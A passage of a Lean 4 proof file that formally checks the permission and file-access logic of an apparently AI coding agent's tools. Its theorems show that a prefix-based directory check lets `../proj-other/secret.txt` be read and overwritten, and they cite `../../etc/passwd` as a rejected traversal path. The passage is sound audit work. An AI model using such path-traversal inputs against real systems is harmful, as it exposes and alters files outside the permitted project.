      ↔ namedKeyOrder m1 = namedKeyOrder m2 := by
  have o1 := mkObject_order m1
  have o2 := mkObject_order m2
  simp only [mkObject, Json.get] at hsame ⊢
  constructor
  · intro h
    have e := toolSignature_obj_inj name _ _ (enumerationOrder_nodup _ _ o1)
      (enumerationOrder_nodup _ _ o2) hsame h
    rw [← enumerationOrder_named _ _ o1, ← enumerationOrder_named _ _ o2, e]
  · intro hn
    have hkeys := enumerationOrder_keys _ _ _ _ o1 o2 hsame hn
    rw [props_eq_of_lookup _ _ (enumerationOrder_nodup _ _ o1) hkeys hsame]

/-- Witness of `toolSignature_insertion_order`: the texts
`{"2":"b","command":"ls","1":"a","cwd":"/tmp"}` and
`{"command":"ls","1":"a","cwd":"/tmp","2":"b"}` insert the keys `1` and `2` at different
places and `command` before `cwd`; both give the signature
`BashTool({"1":"a","2":"b","command":"ls","cwd":"/tmp"})`. -/
theorem toolSignature_insertion_order_witness :
    JSON.parse (u16 "\x7b\"2\":\"b\",\"command\":\"ls\",\"1\":\"a\",\"cwd\":\"/tmp\"\x7d")
      = some (mkObject [(u16 "2", .str (u16 "b")), (u16 "command", .str (u16 "ls")),
          (u16 "1", .str (u16 "a")), (u16 "cwd", .str (u16 "/tmp"))]) ∧
    JSON.parse (u16 "\x7b\"command\":\"ls\",\"1\":\"a\",\"cwd\":\"/tmp\",\"2\":\"b\"\x7d")
      = some (mkObject [(u16 "command", .str (u16 "ls")), (u16 "1", .str (u16 "a")),
          (u16 "cwd", .str (u16 "/tmp")), (u16 "2", .str (u16 "b"))]) ∧
    namedKeyOrder [(u16 "2", .str (u16 "b")), (u16 "command", .str (u16 "ls")),
        (u16 "1", .str (u16 "a")), (u16 "cwd", .str (u16 "/tmp"))] = [u16 "command", u16 "cwd"] ∧
    toolSignature (u16 "BashTool")
        (mkObject [(u16 "2", .str (u16 "b")), (u16 "command", .str (u16 "ls")),
          (u16 "1", .str (u16 "a")), (u16 "cwd", .str (u16 "/tmp"))])
      = u16 "BashTool(\x7b\"1\":\"a\",\"2\":\"b\",\"command\":\"ls\",\"cwd\":\"/tmp\"\x7d)" ∧
    toolSignature (u16 "BashTool")
        (mkObject [(u16 "2", .str (u16 "b")), (u16 "command", .str (u16 "ls")),
          (u16 "1", .str (u16 "a")), (u16 "cwd", .str (u16 "/tmp"))])
      = toolSignature (u16 "BashTool")
        (mkObject [(u16 "command", .str (u16 "ls")), (u16 "1", .str (u16 "a")),
          (u16 "cwd", .str (u16 "/tmp")), (u16 "2", .str (u16 "b"))]) :=
  ⟨by rfl, by rfl, by decide, by rfl,
    (toolSignature_insertion_order (u16 "BashTool") _ _ (fun _ => rfl)).mpr (by decide)⟩

/-! ### C12: a signature stored by a grant for the project -/

/-- C12, evaluated on the code: the shell command `ls *.js` is granted with the choice
"for this project", which appends its signature to the project allow-list; when the
same call comes again, the stored signature, because it contains `*`, is compiled to the
pattern `^BashTool({"command":"ls .*.js"})$`, which does not match the signature, and the
user is prompted again (here the second prompt is denied and the call fails). -/
theorem executeToolCommand_star_signature_prompts_again
    (handlers : JsString → Json → Except JsString Json) :
    (executeToolCommand handlers ⟨[], none, [], []⟩
        ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "ls *.js"))]⟩
        ⟨true, .project⟩).2
      = ⟨[], some [u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"], [],
          [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"),
           .invoke (u16 "BashTool") (.obj [(u16 "command", .str (u16 "ls *.js"))])]⟩ ∧
    executeToolCommand handlers
        ⟨[], some [u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"], [], []⟩
        ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "ls *.js"))]⟩
        ⟨false, .none⟩
      = (.thrown (.error (u16 "Permission denied for BashTool")),
          ⟨[], some [u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"], [],
            [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)")]⟩) := by
  constructor
  · have h : ∀ r : Except JsString Json,
        ((match r with
          | .ok result => ((Outcome.returned result : Outcome Json),
              (⟨[], some [u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"], [],
                [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"),
                 .invoke (u16 "BashTool") (.obj [(u16 "command", .str (u16 "ls *.js"))])]⟩ : World))
          | .error message =>
            (.thrown (.error (u16 "Error executing " ++ u16 "BashTool" ++ u16 ": " ++ message)),
              ⟨[], some [u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"], [],
                [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"),
                 .invoke (u16 "BashTool") (.obj [(u16 "command", .str (u16 "ls *.js"))])]⟩)) :
          Outcome Json × World).2
        = ⟨[], some [u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"], [],
                [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"ls *.js\"\x7d)"),
                 .invoke (u16 "BashTool") (.obj [(u16 "command", .str (u16 "ls *.js"))])]⟩ := by
      intro r; cases r <;> rfl
    exact h (handlers (u16 "BashTool") (.obj [(u16 "command", .str (u16 "ls *.js"))]))
  · rfl

theorem isAlreadyAllowed_literal (toolSignature : JsString) :
    ∀ allowedTools : List JsString, (∀ a ∈ allowedTools, 42 ∉ a) →
      isAlreadyAllowed toolSignature allowedTools
        = .returned (decide (toolSignature ∈ allowedTools)) := by
  intro allowedTools
  induction allowedTools with
  | nil => intro _; rfl
  | cons a rest ih =>
    intro h
    have ha : includes a [42] = false := by
      have := h a (by simp)
      cases hi : includes a [42] with
      | false => rfl
      | true => exact absurd ((includes_unit a 42).mp hi) this
    have hrest := ih (fun b hb => h b (by simp [hb]))
    simp only [isAlreadyAllowed, ha, Bool.false_eq_true, if_false]
    by_cases hEq : a = toolSignature
    · simp [hEq]
    · rw [if_neg hEq, hrest]
      have hne : ¬ toolSignature = a := fun e => hEq e.symm
      simp [hne]

/-- The part of C12 that holds: when no entry of the allow-list contains `*`, a call
that requires permission and whose signature is an entry of the list is authorized
without a prompt: the handler is called right after the allow-list is read. -/
theorem executeToolCommand_literal_authorizes
    (handlers : JsString → Json → Except JsString Json) (w : World) (toolCall : ToolCall)
    (answer : Answer) (name : JsString)
    (hname : toolCall.name.toDisplay = some name)
    (hreg : registryLookup name = .tool true)
    (hlist : ∀ a ∈ getConfig w, 42 ∉ a)
    (hmem : toolSignature name toolCall.arguments ∈ getConfig w) :
    executeToolCommand handlers w toolCall answer
      = runHandler handlers { w with trace := w.trace ++ [Event.readAllowList] }
          name (.tool true) toolCall.arguments := by
  have hcfg : getConfig { w with trace := w.trace ++ [Event.readAllowList] } = getConfig w := rfl
  have hall := isAlreadyAllowed_literal (toolSignature name toolCall.arguments) (getConfig w) hlist
  simp only [hmem, decide_True] at hall
  simp only [executeToolCommand, hname, hreg, hcfg, hall]

/-! ### C13: a denied prompt -/

/-- C13: for a call of a tool that requires permission, whose signature is matched by no
entry of the allow-list and is not in the session set, and for which a prompt is issued
(the arguments are not `null` where the prompt text reads them), a denial makes
`checkPermission` return `false` and `executeToolCommand` fail with the permission-denied
error; the session set and both allow-lists are as before, and the log gains the read of
the allow-list and the prompt only: the handler is not invoked. -/
theorem executeToolCommand_denied
    (handlers : JsString → Json → Except JsString Json) (w : World) (toolCall : ToolCall)
    (name : JsString) (remember : Remember)
    (hname : toolCall.name.toDisplay = some name)
    (hreg : registryLookup name = .tool true)
    (hlist : isAlreadyAllowed (toolSignature name toolCall.arguments) (getConfig w)
      = .returned false)
    (hsession : toolSignature name toolCall.arguments ∉ w.sessionPermissions)
    (hprompt : (readsArgs toolCall.name && toolCall.arguments.isNull) = false) :
    checkPermission w toolCall.name toolCall.arguments ⟨false, remember⟩
      = (.returned false,
          { w with trace := w.trace ++ [.prompt (toolSignature name toolCall.arguments)] }) ∧
    executeToolCommand handlers w toolCall ⟨false, remember⟩
      = (.thrown (.error (u16 "Permission denied for " ++ name)),
          { w with trace := w.trace ++
            [.readAllowList, .prompt (toolSignature name toolCall.arguments)] }) := by
  have hc : w.sessionPermissions.contains (toolSignature name toolCall.arguments) = false := by
    simpa using hsession
  constructor
  · simp only [checkPermission, hname, hc, hprompt, Bool.false_eq_true, if_false]
  · have hcfg : getConfig { w with trace := w.trace ++ [Event.readAllowList] } = getConfig w :=
      rfl
    simp only [executeToolCommand, hname, hreg, hcfg, hlist, checkPermission, hc, hprompt,
      Bool.false_eq_true, if_false, List.append_assoc, List.singleton_append]

/-- Witness of `executeToolCommand_denied`: the shell command `ls`, with an empty
allow-list and an empty session set. -/
theorem executeToolCommand_denied_witness :
    checkPermission ⟨[], none, [], []⟩ (.str (u16 "BashTool"))
        (.obj [(u16 "command", .str (u16 "ls"))]) ⟨false, .none⟩
      = (.returned false,
          ⟨[], none, [], [.prompt (u16 "BashTool(\x7b\"command\":\"ls\"\x7d)")]⟩) ∧
    executeToolCommand (fun _ _ => .ok .null) ⟨[], none, [], []⟩
        ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "ls"))]⟩ ⟨false, .none⟩
      = (.thrown (.error (u16 "Permission denied for BashTool")),
          ⟨[], none, [], [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"ls\"\x7d)")]⟩) :=
  executeToolCommand_denied (fun _ _ => .ok .null) ⟨[], none, [], []⟩
    ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "ls"))]⟩ (u16 "BashTool") .none
    rfl rfl rfl (by decide) rfl

/-! ### C14: paths outside the working directory -/

/-- C14, evaluated on the code: with the working directory `/home/user/proj`, the path
`../proj-other/secret.txt` resolves to `/home/user/proj-other/secret.txt`, which lies in a
sibling directory, not below the working directory. The test
`filePath.startsWith(process.cwd())` accepts it, because the text of the working directory
is a prefix of the text of the path: `fileReadTool` returns the content of the file,
`fileWriteTool` overwrites it, and `lsTool` lists the sibling directory. The ignore
patterns are those of the default configuration. -/
theorem tools_accept_sibling_directory :
    path.resolve (u16 "/home/user/proj") (u16 "../proj-other/secret.txt")
      = u16 "/home/user/proj-other/secret.txt" ∧
    fileReadTool memFs ⟨u16 "/home/user/proj",
          [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
        ⟨[(u16 "/home/user/proj-other/secret.txt", u16 "secret")], []⟩
        (.obj [(u16 "path", .str (u16 "../proj-other/secret.txt"))])
      = (.returned (.str (u16 "secret")),
          ⟨[(u16 "/home/user/proj-other/secret.txt", u16 "secret")],
            [.access (u16 "/home/user/proj-other/secret.txt"),
             .readFile (u16 "/home/user/proj-other/secret.txt")]⟩) ∧
    fileWriteTool memFs ⟨u16 "/home/user/proj",
          [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
        ⟨[(u16 "/home/user/proj-other/secret.txt", u16 "secret")], []⟩
        (.obj [(u16 "path", .str (u16 "../proj-other/secret.txt")),
          (u16 "content", .str (u16 "changed"))])
      = (.returned (.str (u16 "File ../proj-other/secret.txt created successfully")),
          ⟨[(u16 "/home/user/proj-other/secret.txt", u16 "changed")],
            [.mkdir (u16 "/home/user/proj-other"),
             .writeFile (u16 "/home/user/proj-other/secret.txt") (u16 "changed")]⟩) ∧
    lsTool 1 memFs ⟨u16 "/home/user/proj",
          [u16 "node_modules", u16 ".git", u16 "node_modules/**", u16 ".git/**"]⟩
        ⟨[(u16 "/home/user/proj-other/secret.txt", u16 "secret")], []⟩
        (.obj [(u16 "path", .str (u16 "../proj-other"))])
      = (.returned (.arr [.obj [(u16 "name", .str (u16 "secret.txt")),
            (u16 "path", .str (u16 "../proj-other/secret.txt")),
            (u16 "type", .str (u16 "file")), (u16 "isDirectory", .bool false)]]),
          ⟨[(u16 "/home/user/proj-other/secret.txt", u16 "secret")],
            [.stat (u16 "/home/user/proj-other"), .readdir (u16 "/home/user/proj-other")]⟩) :=
  ⟨by rfl, by rfl, by rfl, by rfl⟩

/-- The part of C14 that holds: when the text of the working directory is not a prefix of
the resolved path (as for `../../etc/passwd`), the three tools fail with their
outside-the-project-directory error and make no call of the file system. -/
theorem tools_reject_unprefixed_path {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ)
    (args : Json) (p : JsString) (depth : Nat)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hout : stripPrefix env.cwd (path.resolve env.cwd p) = none) :
    fileReadTool fs env d args
      = (.thrown (.error (u16 "Cannot read files outside the project directory")), d) ∧
    ((args.get (u16 "content")).isSome → fileWriteTool fs env d args
      = (.thrown (.error (u16 "Cannot write files outside the project directory")), d)) ∧
    lsTool depth fs env d args
      = (.thrown (.error (u16 "Cannot list directories outside the project directory")), d) := by
  have hnull := get_isNull hpath
  have htruthy : truthyOpt (some (Json.str p)) = true := by
    simp [truthyOpt, Json.truthy, hp]
  refine ⟨?_, ?_, ?_⟩
  · simp [fileReadTool, hnull, hpath, htruthy, hout]
  · intro hc
    have hcn : (args.get (u16 "content")).isNone = false := by
      cases hg : args.get (u16 "content") with
      | none => rw [hg] at hc; simp at hc
      | some v => rfl
    simp [fileWriteTool, hnull, hpath, htruthy, hout, hcn]
  · simp [lsTool, hnull, hpath, htruthy, hout, displayOpt, Json.toDisplay]

/-! ### C15: old content that does not occur -/

/-- C15: for a file inside the working directory that exists with content `content`, a
non-empty `oldContent` that does not occur in `content`, a non-empty `newContent` and no
`startLine`, `fileEditTool` fails with the old-content-not-found error (its message
prefixed by the `catch` clause with `Failed to edit file: `); the file system is in the
state it was in, and the calls made are `fs.access` and `fs.readFile`: nothing is
written. -/
theorem fileEditTool_old_content_not_found {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (d : Disk σ) (args : Json) (p content oldContent newContent : JsString)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hold : args.get (u16 "oldContent") = some (.str oldContent)) (holdne : oldContent ≠ [])
    (hnew : args.get (u16 "newContent") = some (.str newContent)) (hnewne : newContent ≠ [])
    (hstart : args.get (u16 "startLine") = none)
    (hinside : (stripPrefix env.cwd (path.resolve env.cwd p)).isSome = true)
    (haccess : fs.access d.state (path.resolve env.cwd p) = .ok ())
    (hread : fs.readFile d.state (path.resolve env.cwd p) = .ok content)
    (habsent : includes content oldContent = false) :
    fileEditTool fs env d args
      = (.thrown (.error (u16 "Failed to edit file: Old content not found in file")),
          ⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
            .readFile (path.resolve env.cwd p)]⟩) := by
  have hmode : ((!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
      (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone)) = false := by
    simp [hold, hnew, truthyOpt, Json.truthy, holdne, hnewne]
  rw [fileEditTool_after_read fs env d args p content hpath hp hmode hinside haccess hread]
  have hedit : editedContent content args
      = .thrown (.error (u16 "Old content not found in file")) := by
    simp [editedContent, hstart, hold, displayOpt, Json.toDisplay, habsent]
  rw [hedit]
  rfl

/-- Witness of `fileEditTool_old_content_not_found`: the file `a.txt` with the content
`price: X`, in which `Y` is to be replaced by `Z`. -/
theorem fileEditTool_old_content_not_found_witness :
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "price: X")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")), (u16 "oldContent", .str (u16 "Y")),
          (u16 "newContent", .str (u16 "Z"))])
      = (.thrown (.error (u16 "Failed to edit file: Old content not found in file")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "price: X")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt")]⟩) :=
  fileEditTool_old_content_not_found memFs ⟨u16 "/home/user/proj", []⟩
    ⟨[(u16 "/home/user/proj/a.txt", u16 "price: X")], []⟩
    (.obj [(u16 "path", .str (u16 "a.txt")), (u16 "oldContent", .str (u16 "Y")),
      (u16 "newContent", .str (u16 "Z"))])
    (u16 "a.txt") (u16 "price: X") (u16 "Y") (u16 "Z")
    (by rfl) (by decide) (by rfl) (by decide) (by rfl) (by decide)
    (by rfl) (by rfl) (by rfl) (by rfl) (by rfl)

/-! ### C16: the replacement text -/

/-- C16, evaluated on the code: in the file `a.txt` with the content `price: X`, replacing
`X` by the new content `$$5` writes `price: $5`, not `price: $$5`, and replacing `X` by
`[$&]` writes `price: [X]`: `content.replace` reads `$$` and `$&` in the new content as
replacement patterns. -/
theorem fileEditTool_dollar_patterns :
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "price: X")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")), (u16 "oldContent", .str (u16 "X")),
          (u16 "newContent", .str (u16 "$$5"))])
      = (.returned (.str (u16 "File a.txt updated successfully")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "price: $5")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt"),
             .writeFile (u16 "/home/user/proj/a.txt") (u16 "price: $5")]⟩) ∧
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "price: X")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")), (u16 "oldContent", .str (u16 "X")),
          (u16 "newContent", .str (u16 "[$&]"))])
      = (.returned (.str (u16 "File a.txt updated successfully")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "price: [X]")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt"),
             .writeFile (u16 "/home/user/proj/a.txt") (u16 "price: [X]")]⟩) :=
  ⟨by rfl, by rfl⟩

theorem getSubstitution_plain (matched before after : JsString) :
    ∀ (n : Nat) (t : JsString), t.length ≤ n → 36 ∉ t →
      getSubstitution matched before after t = t := by
  intro n
  induction n with
  | zero =>
    intro t hlen _
    have : t = [] := List.length_eq_zero.mp (Nat.le_zero.mp hlen)
    subst this; rfl
  | succ n ih =>
    intro t hlen hno
    match t, hlen, hno with
    | [], _, _ => rfl
    | [c], _, _ => rfl
    | c :: m :: rest, hlen, hno =>
      have hc : c ≠ 36 := fun e => hno (by simp [e])
      have hrec := ih (m :: rest) (by simp only [List.length_cons] at hlen ⊢; omega)
        (fun hm => hno (List.mem_cons_of_mem _ hm))
      simp only [getSubstitution, hc, false_and, if_false, hrec]

/-- The part of C16 that holds: for a file inside the working directory that exists with
content `content`, a non-empty `oldContent` that occurs in it and a non-empty
`newContent` without `$`, and no `startLine`, the content handed to `fs.writeFile` is
`before ++ newContent ++ after`, where `content = before ++ oldContent ++ after` and
`before` is the shortest text with this property. -/
theorem fileEditTool_replaces_first_occurrence {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (d : Disk σ) (args : Json) (p content oldContent newContent : JsString)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hold : args.get (u16 "oldContent") = some (.str oldContent)) (holdne : oldContent ≠ [])
    (hnew : args.get (u16 "newContent") = some (.str newContent)) (hnewne : newContent ≠ [])
    (hplain : 36 ∉ newContent)
    (hstart : args.get (u16 "startLine") = none)
    (hinside : (stripPrefix env.cwd (path.resolve env.cwd p)).isSome = true)
    (haccess : fs.access d.state (path.resolve env.cwd p) = .ok ())
    (hread : fs.readFile d.state (path.resolve env.cwd p) = .ok content)
    (hoccurs : includes content oldContent = true) :
    ∃ before after : JsString,
      content = before ++ oldContent ++ after ∧
      (∀ before2 after2 : JsString, content = before2 ++ oldContent ++ after2 →
        before.length ≤ before2.length) ∧
      (fileEditTool fs env d args).2.calls
        = d.calls ++ [.access (path.resolve env.cwd p), .readFile (path.resolve env.cwd p),
            .writeFile (path.resolve env.cwd p) (before ++ newContent ++ after)] := by
  have hmode : ((!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
      (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone)) = false := by
    simp [hold, hnew, truthyOpt, Json.truthy, holdne, hnewne]
  rw [fileEditTool_after_read fs env d args p content hpath hp hmode hinside haccess hread]
  cases hf : findSub oldContent content with
  | none =>
    unfold includes at hoccurs
    rw [hf] at hoccurs
    simp at hoccurs
  | some pr =>
    obtain ⟨before, after⟩ := pr
    refine ⟨before, after, findSub_eq hf, findSub_shortest hf, ?_⟩
    have hedit : editedContent content args = .returned (before ++ newContent ++ after) := by
      simp [editedContent, hstart, hold, hnew, displayOpt, Json.toDisplay, hoccurs, replaceFirst,
        hf, getSubstitution_plain oldContent before after newContent.length newContent
          (Nat.le_refl _) hplain]
    rw [hedit]
    simp only []
    cases fs.writeFile d.state (path.resolve env.cwd p) (before ++ newContent ++ after) <;> rfl

/-! ### C17: line ranges that are not valid -/

theorem fileEditTool_line_mode {args : Json} {x : Json}
    (hstart : args.get (u16 "startLine") = some x) :
    ((!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
      (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone)) = false := by
  simp [hstart]

/-- The edit of a valid line range: the lines before the range, the lines of a non-empty
`newContent`, and the lines after the range; a `TypeError` when `newContent` is truthy and
not a string. -/
theorem editedContent_valid_range (content : JsString) (args : Json) (x y : Num)
    (startLine endLine : Int)
    (hstart : args.get (u16 "startLine") = some (.num x)) (hx : x.toInt? = some startLine)
    (hend : args.get (u16 "endLine") = some (.num y)) (hy : y.toInt? = some endLine)
    (hvalid : 0 ≤ startLine ∧ startLine ≤ endLine ∧
      endLine < ((splitOn 10 content).length : Int)) :
    editedContent content args =
      if truthyOpt (args.get (u16 "newContent")) then
        match args.get (u16 "newContent") with
        | some (.str newContent) =>
          .returned (joinWith 10 ((splitOn 10 content).take startLine.toNat ++
            splitOn 10 newContent ++ (splitOn 10 content).drop (endLine + 1).toNat))
        | _ => .thrown .typeError
      else
        .returned (joinWith 10 ((splitOn 10 content).take startLine.toNat ++
          (splitOn 10 content).drop (endLine + 1).toNat)) := by
  have hcond : ¬ (startLine < 0 ∨ startLine ≥ ((splitOn 10 content).length : Int) ∨
      endLine < startLine ∨ endLine ≥ ((splitOn 10 content).length : Int)) := by omega
  have hs : (args.get (u16 "startLine")).bind lineNumber = some startLine := by
    rw [hstart]; exact hx
  have he : (args.get (u16 "endLine")).bind lineNumber = some endLine := by
    rw [hend]; exact hy
  have hs1 : (args.get (u16 "startLine")).isSome = true := by rw [hstart]; rfl
  have he1 : (args.get (u16 "endLine")).isSome = true := by rw [hend]; rfl
  simp only [editedContent, hs, he, hs1, he1, Bool.and_self, if_true, hcond, if_false]

/-- C17: for a file inside the working directory that exists with content `content`, and
`startLine` and `endLine` two numbers that denote integers, `fileEditTool` fails with the
invalid-line-range error (its message prefixed by the `catch` clause with
`Failed to edit file: `) after `fs.access` and `fs.readFile` only, the file system being in
the state it was in, if and only if not `0 ≤ startLine ≤ endLine < lineCount`, where
`lineCount` is the number of segments of `content` between line feeds. -/
theorem fileEditTool_invalid_line_range {σ : Type} (fs : NodeFs σ) (env : ToolEnv)
    (d : Disk σ) (args : Json) (p content : JsString) (x y : Num) (startLine endLine : Int)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hstart : args.get (u16 "startLine") = some (.num x)) (hx : x.toInt? = some startLine)
    (hend : args.get (u16 "endLine") = some (.num y)) (hy : y.toInt? = some endLine)
    (hinside : (stripPrefix env.cwd (path.resolve env.cwd p)).isSome = true)
    (haccess : fs.access d.state (path.resolve env.cwd p) = .ok ())
    (hread : fs.readFile d.state (path.resolve env.cwd p) = .ok content) :
    fileEditTool fs env d args
        = (.thrown (.error (u16 "Failed to edit file: Invalid line range")),
            ⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
              .readFile (path.resolve env.cwd p)]⟩) ↔
      ¬ (0 ≤ startLine ∧ startLine ≤ endLine ∧
        endLine < ((splitOn 10 content).length : Int)) := by
  rw [fileEditTool_after_read fs env d args p content hpath hp (fileEditTool_line_mode hstart)
    hinside haccess hread]
  by_cases hvalid : 0 ≤ startLine ∧ startLine ≤ endLine ∧
      endLine < ((splitOn 10 content).length : Int)
  · simp only [hvalid, and_self, not_true_eq_false, iff_false]
    rw [editedContent_valid_range content args x y startLine endLine hstart hx hend hy hvalid]
    have hwrite : ∀ edited : JsString,
        (match fs.writeFile d.state (path.resolve env.cwd p) edited with
          | .error e =>
            ((.thrown (editFsFailure p e) : Outcome Json),
              (⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
                .readFile (path.resolve env.cwd p),
                .writeFile (path.resolve env.cwd p) edited]⟩ : Disk σ))
          | .ok st =>
            (.returned (.str (u16 "File " ++ p ++ u16 " updated successfully")),
              ⟨st, d.calls ++ [.access (path.resolve env.cwd p),
                .readFile (path.resolve env.cwd p),
                .writeFile (path.resolve env.cwd p) edited]⟩))
        ≠ (.thrown (.error (u16 "Failed to edit file: Invalid line range")),
            ⟨d.state, d.calls ++ [.access (path.resolve env.cwd p),
              .readFile (path.resolve env.cwd p)]⟩) := by
      intro edited h
      cases hw : fs.writeFile d.state (path.resolve env.cwd p) edited with
      | error e =>
        rw [hw] at h
        have hcalls := congrArg (fun r => r.2.calls) h
        simp at hcalls
      | ok st =>
        rw [hw] at h
        have hcalls := congrArg (fun r => r.2.calls) h
        simp at hcalls
    by_cases hnew : truthyOpt (args.get (u16 "newContent")) = true
    · rw [if_pos hnew]
      cases hget : args.get (u16 "newContent") with
      | none => intro h; simp [wrapError] at h
      | some v =>
        cases v with
        | str newContent => exact hwrite _
        | null => intro h; simp [wrapError] at h
        | bool b => intro h; simp [wrapError] at h
        | num n => intro h; simp [wrapError] at h
        | arr xs => intro h; simp [wrapError] at h
        | obj kvs => intro h; simp [wrapError] at h
    · rw [if_neg hnew]
      exact hwrite _
  · simp only [hvalid, not_false_eq_true, iff_true]
    have hcond : startLine < 0 ∨ startLine ≥ ((splitOn 10 content).length : Int) ∨
        endLine < startLine ∨ endLine ≥ ((splitOn 10 content).length : Int) := by omega
    have hs : (args.get (u16 "startLine")).bind lineNumber = some startLine := by
      rw [hstart]; exact hx
    have he : (args.get (u16 "endLine")).bind lineNumber = some endLine := by
      rw [hend]; exact hy
    have hs1 : (args.get (u16 "startLine")).isSome = true := by rw [hstart]; rfl
    have he1 : (args.get (u16 "endLine")).isSome = true := by rw [hend]; rfl
    have hedit : editedContent content args = .thrown (.error (u16 "Invalid line range")) := by
      simp only [editedContent, hs, he, hs1, he1, Bool.and_self, if_true, hcond]
    rw [hedit]
    rfl

/-- Witness of `fileEditTool_invalid_line_range`: `startLine` 1 and `endLine` 0 on a file
of two lines. -/
theorem fileEditTool_invalid_line_range_witness :
    fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")),
          (u16 "startLine", .num (Num.ofDecimal false 1 0)),
          (u16 "endLine", .num (Num.ofDecimal false 0 0)),
          (u16 "newContent", .str (u16 "x"))])
      = (.thrown (.error (u16 "Failed to edit file: Invalid line range")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt")]⟩) :=
  (fileEditTool_invalid_line_range memFs ⟨u16 "/home/user/proj", []⟩
    ⟨[(u16 "/home/user/proj/a.txt", u16 "one\ntwo")], []⟩
    (.obj [(u16 "path", .str (u16 "a.txt")),
      (u16 "startLine", .num (Num.ofDecimal false 1 0)),
      (u16 "endLine", .num (Num.ofDecimal false 0 0)),
      (u16 "newContent", .str (u16 "x"))])
    (u16 "a.txt") (u16 "one\ntwo") (Num.ofDecimal false 1 0) (Num.ofDecimal false 0 0) 1 0
    (by rfl) (by decide) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl) (by rfl)).mpr
    (by decide)

/-! ### C18: the edit of a valid line range -/

/-- C18 as stated fails on the line count and on an empty `newContent`. Removing both
lines of the file `a\nb` (no `newContent`) writes the empty text, which has one line,
where the claim counts `2 - (1 - 0 + 1) + 0 = 0` lines. Replacing the middle line of
`a\nb\nc` by the `newContent` `""` writes `a\nc`: no line is inserted, where the split of
`""` on line feed is one empty line, which would give `a\n\nc`. -/
theorem fileEditTool_line_count_of_empty_result :
    (fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "a\nb")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")),
          (u16 "startLine", .num (Num.ofDecimal false 0 0)),
          (u16 "endLine", .num (Num.ofDecimal false 1 0))])
      = (.returned (.str (u16 "File a.txt updated successfully")),
          ⟨[(u16 "/home/user/proj/a.txt", u16 "")],
            [.access (u16 "/home/user/proj/a.txt"), .readFile (u16 "/home/user/proj/a.txt"),
             .writeFile (u16 "/home/user/proj/a.txt") (u16 "")]⟩) ∧
      ((splitOn 10 (u16 "")).length : Int)
        ≠ ((splitOn 10 (u16 "a\nb")).length : Int) - (1 - 0 + 1) + 0) ∧
    (fileEditTool memFs ⟨u16 "/home/user/proj", []⟩
        ⟨[(u16 "/home/user/proj/a.txt", u16 "a\nb\nc")], []⟩
        (.obj [(u16 "path", .str (u16 "a.txt")),
          (u16 "startLine", .num (Num.ofDecimal false 1 0)),
          (u16 "endLine", .num (Num.ofDecimal false 1 0)),
          (u16 "newContent", .str (u16 ""))])
      = (.returned (.str (u16 "File a.txt updated successfully")),
